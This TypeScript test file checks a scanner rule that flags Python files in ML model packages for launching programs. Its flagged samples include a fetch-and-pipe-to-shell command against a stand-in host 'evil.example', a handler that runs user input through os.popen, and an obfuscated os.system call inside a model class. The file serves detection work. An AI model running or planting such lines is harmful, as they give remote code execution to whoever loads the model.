import { expect, test } from "vitest";
import { viewPython } from "../../formats/python/view.ts";
import { modelCodeStartsPrograms } from "./model-code-starts-programs.ts";

function count(path: string, text: string): number {
  let found = 0;
  modelCodeStartsPrograms.run(viewPython({ path, text }), () => {
    found++;
  });
  return found;
}

const handler = (line: string): string =>
  `import os, subprocess, sys\nclass EndpointHandler:\n    def __call__(self, data):\n        ${line}\n`;

test.each([
  ["handler.py", handler("return os.popen(data.get('inputs', '')).read()")],
  ["handler.py", handler("subprocess.Popen(['sh', '-c', 'touch /tmp/x'])")],
  ["handler.py", handler("subprocess.run(['curl', 'https://evil.example'])")],
  ["code/inference.py", "def predict_fn(x, m):\n    return eval(x)\n"],
  [
    "custom_generate/generate.py",
    "import os\ndef generate(model, **k):\n    os.system('touch /tmp/x')\n",
  ],
  [
    "en_x/__init__.py",
    "import os\nos.popen('curl http://evil.example/s|sh')\nfrom spacy.util import load_model_from_init_py\n",
  ],
  [
    "custom_nodes/x/__init__.py",
    "import os\nos.system('touch /tmp/x')\nNODE_CLASS_MAPPINGS = {}\n",
  ],
  ["sitecustomize.py", "import os;os.system('touch /tmp/x')\n"],
  ["det.py", "_base_ = ['./a.py']\nimport os\nos.system('touch /tmp/x')\n"],
  ["code/p.py", "import os\nos.system('touch /tmp/x')\nfrom pickle import *\n"],
  [
    "modeling_x.py",
    "from transformers import PreTrainedModel\nclass X(PreTrainedModel):\n    def forward(self, x):\n        getattr(__import__(''.join(map(chr, [111, 115]))), 'sys' + 'tem')('id')\n",
  ],
])("%s", (path, text) => {
  expect(count(path, text)).toBeGreaterThan(0);
});

test.each([
  ["handler.py", handler("subprocess.run(['ffmpeg', '-i', data['file'], 'out.wav'])")],
  ["handler.py", handler("os.system('pip install -U transformers && nvidia-smi')")],
  ["handler.py", handler("subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])")],
  ["handler.py", handler("return self.model.eval()")],
  ["inference.py", "def model_fn(d):\n    model.eval()\n    return model\n"],
  ["custom_nodes/x/__init__.py", "import os\nos.system('git pull')\nNODE_CLASS_MAPPINGS = {}\n"],
  ["train.py", "import os\nos.system('touch /tmp/x')\n"],
  ["det.py", "_base_ = ['./a.py']\nmodel = dict(type='FasterRCNN')\n"],
  [
    "modeling_x.py",
    "import importlib\nclass X(PreTrainedModel):\n    def load(self, name):\n        return importlib.import_module('x.' + name)\n",
  ],
])("%s that starts nothing odd", (path, text) => {
  expect(count(path, text)).toBe(0);
});
